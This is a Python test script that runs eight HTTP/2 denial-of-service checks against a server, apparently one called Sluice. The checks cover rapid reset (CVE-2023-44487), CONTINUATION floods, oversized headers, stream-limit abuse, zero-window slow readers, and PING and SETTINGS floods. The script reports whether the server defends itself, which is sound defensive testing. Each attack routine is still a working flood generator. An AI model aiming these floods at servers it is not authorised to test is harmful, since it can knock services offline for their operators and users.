"""HTTP/2 abuse checks against a running h2 server (Sluice's data listener, or any other).

Run:  .venv/bin/python Tests/python/h2_safety_check.py 127.0.0.1:8080 [--pid PID] [--tls [--cafile ca.pem]]
      [--only rapid-reset,max-streams] [--rss-bound-mb 64] [--path /v1/models]
Needs the `h2` package (and hpack/hyperframe, which h2 depends on); nothing else outside the stdlib.

Each check opens its own connection (h2c with prior knowledge, or TLS with ALPN h2 under --tls),
attacks, and then a normal request (GET --path on a fresh connection) must still be answered with
a status < 500 (404 counts as answered). With --pid the server's VmRSS is sampled every 50 ms
during the check; a peak more than --rss-bound-mb above the value before it fails the check.
  rapid-reset         HEADERS(GET, END_STREAM) + RST_STREAM(CANCEL) as fast as possible
                      (CVE-2023-44487): the server must GOAWAY or close before --resets pairs / --seconds.
  continuation-flood  HEADERS without END_HEADERS, then CONTINUATION frames of 1 KB of literal header
                      fields: GOAWAY or close before --flood-mb MB / --seconds (CVE-2024-27316 family).
  continuation-empty  the same with empty CONTINUATION frames: GOAWAY or close before
                      --continuations frames / --seconds.
  big-headers         one request with a header list over 64 KB (80 x 1 KB): refused with 400/413/431,
                      RST_STREAM, GOAWAY or close.
  max-streams         SETTINGS_MAX_CONCURRENT_STREAMS (N) must be advertised and <= --max-streams-bound;
                      N unfinished POSTs (HEADERS without END_STREAM), then 10 more (hand-written frames,
                      past h2's own limit): the 10 get RST_STREAM(REFUSED_STREAM or PROTOCOL_ERROR), or a
                      GOAWAY/close. Inconclusive (fails) if the server resets the first N streams without
                      waiting for their bodies: --path must then name a route that reads the body.
  slow-reader         --slow-conns connections with SETTINGS_INITIAL_WINDOW_SIZE=0 and up to 100 GETs of
                      --slow-path each, never a WINDOW_UPDATE, held --hold s: another connection is
                      served meanwhile, and no DATA beyond the zero window arrives.
  ping-flood          --control-frames PINGs from a client that never reads (4 KB receive buffer):
  settings-flood      the same with SETTINGS frames. Pass: GOAWAY/close, or a normal request on another
                      connection is answered during the flood (and the RSS bound holds with --pid).
Prints one line per check (PASS/FAIL with frames sent, time to GOAWAY, error code, RSS before/peak/
after) and exits 0 when every check passed, 1 otherwise.
"""
import argparse
import select
import socket
import ssl
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events
import h2.settings
import hpack
from h2.errors import ErrorCodes
from h2.settings import SettingCodes
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame,
                              PingFrame, RstStreamFrame, SettingsFrame)

IO_TIMEOUT = 5.0
CHECKS = ["rapid-reset", "continuation-flood", "continuation-empty", "big-headers", "max-streams",
          "slow-reader", "ping-flood", "settings-flood"]


def code_name(code):
    try:
        return ErrorCodes(code).name
    except ValueError:
        return f"0x{code:x}"


class Peer:
    """One client connection: h2 writes the preface and well-formed frames, hyperframe reads back."""

    def __init__(self, args, settings=None, rcvbuf=None, own_reader=True):
        self.args, self.own_reader = args, own_reader  # own_reader false: the caller feeds h2 itself
        raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        raw.settimeout(IO_TIMEOUT)
        if rcvbuf:
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        raw.connect((args.host, args.port))
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock = wrap_tls(raw, args) if args.tls else raw
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(
            client_side=True, header_encoding="utf-8", validate_outbound_headers=False))
        values = {SettingCodes.ENABLE_PUSH: 0}
        values.update(settings or {})
        self.h2.local_settings = h2.settings.Settings(client=True, initial_values=values)
        self.h2.initiate_connection()
        self.buf, self.block, self.decoder = bytearray(), {}, hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 20
        self.settings, self.got_settings = {}, False
        self.goaway = self.closed = self.closed_at = None
        self.acks_due, self.sending = b"", False  # SETTINGS ACKs wait for a frame boundary
        self.resets, self.statuses, self.data_in, self.frames_in = {}, {}, 0, 0
        self.t0 = time.monotonic()
        self.flush()

    def send(self, data, timeout=IO_TIMEOUT, read=True):
        """'ok', 'blocked' (the server stopped reading for `timeout` s) or 'closed'. Unless `read` is
        false, what arrives meanwhile is read, so that a GOAWAY is seen before the reset that follows;
        SETTINGS ACKs that this reading owes go out after `data` (never inside a frame, nor before
        the preface)."""
        view, deadline, self.sending = memoryview(data), time.monotonic() + timeout, True
        try:
            for _ in range(10 ** 7):
                if self.closed:
                    return "closed"
                if not view:
                    if not self.acks_due:
                        return "ok"
                    view, self.acks_due = memoryview(self.acks_due), b""
                if time.monotonic() > deadline:
                    return "blocked"
                if read and self.own_reader:
                    self.pump(0)
                try:
                    self.sock.settimeout(0.05)
                    view = view[self.sock.send(view[:262144]):]
                except (socket.timeout, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                    continue
                except (OSError, ssl.SSLError) as e:
                    self.lost(f"send: {e.__class__.__name__}")
            return "blocked"
        finally:
            self.sending = False

    def lost(self, why):
        if not self.closed:
            self.closed, self.closed_at = why, time.monotonic() - self.t0

    def flush(self, timeout=IO_TIMEOUT):
        data = self.h2.data_to_send()
        return self.send(data, timeout) if data else "ok"

    def pump(self, wait, until=None):
        """Read and parse what arrives within `wait` seconds (at least one poll), or until `until()`."""
        deadline = time.monotonic() + wait
        for _ in range(100000):
            if self.closed:
                return
            left = max(0.0, deadline - time.monotonic())
            pending = isinstance(self.sock, ssl.SSLSocket) and self.sock.pending()
            if not pending and not select.select([self.sock], [], [], left)[0]:
                return
            try:
                self.sock.settimeout(IO_TIMEOUT)
                chunk = self.sock.recv(262144)
            except (socket.timeout, ssl.SSLWantReadError):
                chunk = None
            except (OSError, ssl.SSLError) as e:
                chunk = b""
                self.lost(f"recv: {e.__class__.__name__}")
            if chunk == b"":
                self.lost("EOF")
                return
            if chunk:
                self.buf += chunk
                self.parse()
            if time.monotonic() >= deadline or (until and until()):
                return

    def parse(self):
        acks, at = 0, 0
        while len(self.buf) - at >= 9:
            try:
                frame, length = Frame.parse_frame_header(memoryview(self.buf)[at:at + 9])
                if len(self.buf) - at < 9 + length:
                    break
                frame.parse_body(memoryview(self.buf)[at + 9:at + 9 + length])
            except Exception as e:  # a malformed frame: stop reading this connection
                self.lost(f"unparsable frame from server: {e.__class__.__name__}")
                break
            at += 9 + length
            self.frames_in += 1
            acks += self.on_frame(frame)
        del self.buf[:at]
        self.acks_due += SettingsFrame(0, flags=["ACK"]).serialize() * acks
        if self.acks_due and not self.sending:
            self.send(b"", read=False)

    def on_frame(self, f):
        if isinstance(f, SettingsFrame) and "ACK" not in f.flags:
            self.settings.update(f.settings)
            self.got_settings = True
            return 1
        if isinstance(f, (HeadersFrame, ContinuationFrame)):
            self.block[f.stream_id] = self.block.get(f.stream_id, b"") + f.data
            if "END_HEADERS" in f.flags:
                try:
                    for name, value in self.decoder.decode(self.block.pop(f.stream_id), raw=True):
                        if name == b":status":
                            self.statuses[f.stream_id] = int(value)
                except Exception:
                    pass
        elif isinstance(f, RstStreamFrame):
            self.resets[f.stream_id] = f.error_code
        elif isinstance(f, GoAwayFrame) and self.goaway is None:
            self.goaway = (f.error_code, f.last_stream_id, time.monotonic() - self.t0)
        elif isinstance(f, DataFrame):
            self.data_in += len(f.data)
        return 0

    def wait_settings(self):
        deadline = time.monotonic() + IO_TIMEOUT
        while not self.got_settings and not self.closed and time.monotonic() < deadline:
            self.pump(deadline - time.monotonic(), until=lambda: self.got_settings)
        if not self.got_settings:
            raise RuntimeError(f"no SETTINGS from the server ({self.closed or 'timeout'})")
        self.t0 = time.monotonic()  # times in outcome() count from the attack's start

    def over(self):
        return self.goaway is not None or self.closed is not None

    def outcome(self):
        if self.goaway:
            code, last, at = self.goaway
            return f"GOAWAY({code_name(code)}, last_stream={last}) at {at:.2f}s"
        if self.closed:
            return f"closed ({self.closed}) at {self.closed_at:.2f}s"
        return "connection still open"

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def wrap_tls(raw, args):
    ctx = ssl.create_default_context(cafile=args.cafile) if args.cafile else ssl._create_unverified_context()
    ctx.set_alpn_protocols(["h2"])
    sock = ctx.wrap_socket(raw, server_hostname=args.host)
    if sock.selected_alpn_protocol() != "h2":
        raise RuntimeError(f"ALPN chose {sock.selected_alpn_protocol()!r}, not h2")
    return sock


def request_headers(args, method, path, extra=()):
    return [(":method", method), (":scheme", "https" if args.tls else "http"),
            (":authority", f"{args.host}:{args.port}"), (":path", path),
            ("user-agent", "h2-safety-check")] + list(extra)


def normal_request(args):
    """A plain h2 GET on a fresh connection through h2's own state machine: (ok, detail)."""
    try:
        p = Peer(args, own_reader=False)
    except Exception as e:
        return False, f"connect: {e}"
    try:
        conn, status, deadline = p.h2, None, time.monotonic() + IO_TIMEOUT
        conn.send_headers(1, request_headers(args, "GET", args.path), end_stream=True)
        p.flush()
        p.sock.settimeout(IO_TIMEOUT)
        while time.monotonic() < deadline:
            data = p.sock.recv(65536)
            if not data:
                return False, f"EOF before the response ended (status {status})"
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.ResponseReceived):
                    status = int(dict(event.headers)[":status"])
                elif isinstance(event, h2.events.DataReceived):
                    conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                elif isinstance(event, h2.events.StreamReset):
                    return False, f"stream reset {code_name(event.error_code)}"
                elif isinstance(event, h2.events.ConnectionTerminated):
                    return False, f"GOAWAY {code_name(event.error_code)}"
                elif isinstance(event, h2.events.StreamEnded):
                    return (status is not None and status < 500), f"status {status}"
            p.flush()
        return False, f"no complete response in {IO_TIMEOUT}s"
    except Exception as e:
        return False, f"{e.__class__.__name__}: {e}"
    finally:
        p.close()


def rss_kb(pid):
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1])
    except OSError:
        return None
    return None


# ---- the attacks: each returns (passed, figures) ----

def rapid_reset(args):
    p = Peer(args)
    p.wait_settings()
    sent, start = 0, time.monotonic()
    headers = request_headers(args, "GET", args.path)
    while sent < args.resets and time.monotonic() - start < args.seconds and not p.over():
        for _ in range(50):
            sid = p.h2.get_next_available_stream_id()
            p.h2.send_headers(sid, headers, end_stream=True)
            p.h2.reset_stream(sid, ErrorCodes.CANCEL)
            sent += 1
        if p.flush() != "ok":
            break
        p.pump(0)
    elapsed = time.monotonic() - start
    for _ in range(10):
        if p.over():
            break
        p.pump(0.1)
    figures = (f"{sent} HEADERS+RST_STREAM pairs in {elapsed:.2f}s, {len(p.statuses)} responses; "
               f"{p.outcome()}")
    p.close()
    return p.over(), figures


def continuation(args, payload):
    p = Peer(args)
    p.wait_settings()
    head = HeadersFrame(1, data=p.h2.encoder.encode(request_headers(args, "POST", args.path)))
    p.send(head.serialize())
    if payload:
        fields = [hpack.NeverIndexedHeaderTuple(f"x-flood-{i}", "f" * 90) for i in range(10)]
        frame = ContinuationFrame(1, data=hpack.Encoder().encode(fields, huffman=False)).serialize()
        batch, per, limit = frame * 64, 64, args.flood_mb * 1_000_000 // len(frame)
    else:
        frame = ContinuationFrame(1).serialize()
        batch, per, limit = frame * 1000, 1000, args.continuations
    sent, start, blocked = 0, time.monotonic(), False
    while sent < limit and time.monotonic() - start < args.seconds and not p.over():
        state = p.send(batch, timeout=2.0)
        if state == "blocked":
            blocked = True
            break
        sent += per if state == "ok" else 0
        p.pump(0)
    elapsed = time.monotonic() - start
    left = max(0.5, args.seconds - elapsed)
    for _ in range(int(left * 10)):
        if p.over():
            break
        p.pump(0.1)
    figures = (f"{sent} CONTINUATION frames ({sent * len(frame) / 1e6:.2f} MB) in "
               f"{elapsed:.2f}s{', then the server stopped reading' if blocked else ''}; {p.outcome()}"
               + ("" if p.over() else f" {time.monotonic() - start:.1f}s after the first"))
    p.close()
    return p.over(), figures


def big_headers(args):
    p = Peer(args)
    p.wait_settings()
    extra = [(f"x-big-{i:03d}", "b" * 1000) for i in range(80)]
    p.h2.send_headers(1, request_headers(args, "GET", args.path, extra), end_stream=True)
    p.flush()
    deadline = time.monotonic() + IO_TIMEOUT
    while time.monotonic() < deadline and 1 not in p.statuses and 1 not in p.resets and not p.over():
        p.pump(0.1)
    status, reset = p.statuses.get(1), p.resets.get(1)
    p.close()
    if status is not None:
        return status in (400, 413, 431), f"~83 KB header list answered with status {status}"
    if reset is not None:
        return True, f"~83 KB header list: RST_STREAM({code_name(reset)})"
    return p.over(), f"~83 KB header list: {p.outcome()}"


def max_streams(args):
    p = Peer(args)
    p.wait_settings()
    advertised = p.settings.get(SettingCodes.MAX_CONCURRENT_STREAMS)
    limit = min(advertised if advertised is not None else 1 << 31, args.max_streams_bound)
    headers = request_headers(args, "POST", args.path, [("content-type", "application/json")])

    def open_streams(sids):
        p.send(b"".join(HeadersFrame(sid, data=p.h2.encoder.encode(headers), flags=["END_HEADERS"])
                        .serialize() for sid in sids))

    first, extra = [1 + 2 * i for i in range(limit)], [1 + 2 * i for i in range(limit, limit + 10)]
    open_streams(first)
    p.pump(0.5)
    freed = sum(1 for s in first if s in p.resets)
    if not p.over() and not freed:
        open_streams(extra)
        deadline = time.monotonic() + 3.0
        while time.monotonic() < deadline and not p.over() and not all(s in p.resets for s in extra):
            p.pump(0.1)
    refused = [s for s in extra if p.resets.get(s) in (ErrorCodes.REFUSED_STREAM, ErrorCodes.PROTOCOL_ERROR)]
    answered = [s for s in extra if s in p.statuses]
    figures = (f"advertised {advertised}; {limit} unfinished POSTs, then 10 more: {len(refused)}/10 refused, "
               f"{len(answered)} answered; {p.outcome()}")
    p.close()
    if advertised is None or advertised > args.max_streams_bound:
        return False, f"SETTINGS_MAX_CONCURRENT_STREAMS {advertised} not <= {args.max_streams_bound}; " + figures
    if freed and not p.over():
        return False, (f"inconclusive: the server reset {freed} of the first {limit} streams without waiting "
                       "for their bodies; point --path at a route that waits for the request body")
    return (len(refused) == 10 and not answered) or p.over(), figures


def slow_reader(args):
    peers, requested = [], 0
    try:
        for _ in range(args.slow_conns):
            p = Peer(args, settings={SettingCodes.INITIAL_WINDOW_SIZE: 0})
            peers.append(p)
            p.wait_settings()
            n = min(p.settings.get(SettingCodes.MAX_CONCURRENT_STREAMS, 100), 100)
            for i in range(n):
                p.h2.send_headers(1 + 2 * i, request_headers(args, "GET", args.slow_path), end_stream=True)
            p.flush()
            requested += n
        start, served, detail = time.monotonic(), None, ""
        for _ in range(int(args.hold * 10) + 1):
            for p in peers:
                p.pump(0.1 / len(peers))
            if served is None and time.monotonic() - start > args.hold / 2:
                served, detail = normal_request(args)
            if time.monotonic() - start > args.hold:
                break
        data = sum(p.data_in for p in peers)
        statuses = sum(len(p.statuses) for p in peers)
        gone = sum(1 for p in peers if p.over())
        figures = (f"{len(peers)} connections x window 0, {requested} GETs held {args.hold}s: "
                   f"{statuses} response heads, {data} DATA bytes, {gone} connections closed/GOAWAY; "
                   f"another connection meanwhile: {detail}")
        return bool(served) and data == 0, figures
    finally:
        for p in peers:
            p.close()


def control_flood(args, kind):
    p = Peer(args, rcvbuf=4096)
    p.wait_settings()
    if kind == "PING":
        frame = PingFrame(0, opaque_data=b"h2safety").serialize()
    else:
        frame = SettingsFrame(0, settings={SettingCodes.INITIAL_WINDOW_SIZE: 65535}).serialize()
    batch, sent, start, blocked = frame * 1000, 0, time.monotonic(), False
    while sent < args.control_frames and time.monotonic() - start < args.seconds:
        state = p.send(batch, timeout=2.0, read=False)
        if state != "ok":
            blocked = state == "blocked"
            break
        sent += 1000
    elapsed = time.monotonic() - start
    served, detail = (False, "not tried, the flood connection is gone") if p.closed else normal_request(args)
    for _ in range(30):
        if p.over():
            break
        p.pump(0.1)
    figures = (f"{sent} {kind} frames in {elapsed:.2f}s without reading"
               f"{', then the server stopped reading' if blocked else ''}; {p.outcome()}; "
               f"another connection during the flood: {detail}")
    p.close()
    return p.over() or served, figures


ATTACKS = {
    "rapid-reset": rapid_reset,
    "continuation-flood": lambda a: continuation(a, True),
    "continuation-empty": lambda a: continuation(a, False),
    "big-headers": big_headers,
    "max-streams": max_streams,
    "slow-reader": slow_reader,
    "ping-flood": lambda a: control_flood(a, "PING"),
    "settings-flood": lambda a: control_flood(a, "SETTINGS"),
}


def run(name, args):
    before, peak, stop = rss_kb(args.pid) if args.pid else None, [0], threading.Event()

    def sample():
        for _ in range(100000):
            value = rss_kb(args.pid)
            peak[0] = max(peak[0], value or 0)
            if stop.wait(0.05):
                return

    sampler = threading.Thread(target=sample, daemon=True) if args.pid else None
    if sampler:
        sampler.start()
    try:
        passed, figures = ATTACKS[name](args)
    except Exception as e:
        passed, figures = False, f"the check itself failed: {e.__class__.__name__}: {e}"
    time.sleep(0.5)
    stop.set()
    if sampler:
        sampler.join(2)
    reasons = [] if passed else ["not defended"]
    memory = ""
    if args.pid:
        after = rss_kb(args.pid)
        if before is None or after is None:
            reasons.append(f"no /proc/{args.pid}/status (server died?)")
        else:
            memory = f"; RSS {before // 1024}->{peak[0] // 1024}->{after // 1024} MB (before/peak/after)"
            if peak[0] - before > args.rss_bound_mb * 1024:
                reasons.append(f"RSS grew {(peak[0] - before) // 1024} MB > {args.rss_bound_mb} MB")
    alive, detail = normal_request(args)
    if not alive:
        reasons.append(f"a fresh normal request afterwards failed: {detail}")
    print(f"{'PASS' if not reasons else 'FAIL'} {name}: {figures}{memory}; after: {detail}"
          + (f" -- {'; '.join(reasons)}" if reasons else ""), flush=True)
    return not reasons


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("target", help="HOST:PORT of the h2 listener (loopback)")
    parser.add_argument("--pid", type=int, help="server process id, for VmRSS")
    parser.add_argument("--tls", action="store_true", help="TLS with ALPN h2 instead of h2c")
    parser.add_argument("--cafile", help="verify the server certificate against this CA")
    parser.add_argument("--only", help="comma-separated subset of: " + ",".join(CHECKS))
    parser.add_argument("--path", default="/v1/models")
    parser.add_argument("--slow-path", help="path of a large response for slow-reader (default --path)")
    parser.add_argument("--rss-bound-mb", type=int, default=64)
    parser.add_argument("--seconds", type=float, default=10.0, help="time bound of each flood")
    parser.add_argument("--resets", type=int, default=10000)
    parser.add_argument("--flood-mb", type=int, default=10)
    parser.add_argument("--continuations", type=int, default=100000)
    parser.add_argument("--max-streams-bound", type=int, default=1000)
    parser.add_argument("--slow-conns", type=int, default=8)
    parser.add_argument("--hold", type=float, default=3.0)
    parser.add_argument("--control-frames", type=int, default=1000000)
    args = parser.parse_args()
    args.host, _, port = args.target.rpartition(":")
    args.port = int(port)
    args.slow_path = args.slow_path or args.path
    names = args.only.split(",") if args.only else CHECKS
    unknown = [n for n in names if n not in ATTACKS]
    if unknown:
        parser.error(f"unknown checks {unknown}")
    alive, detail = normal_request(args)
    if not alive:
        print(f"FAIL preflight: a normal h2 GET {args.path} is not answered: {detail}")
        return 1
    results = [run(name, args) for name in names]
    print(f"{sum(results)}/{len(results)} checks passed")
    return 0 if all(results) else 1


if __name__ == "__main__":
    sys.exit(main())
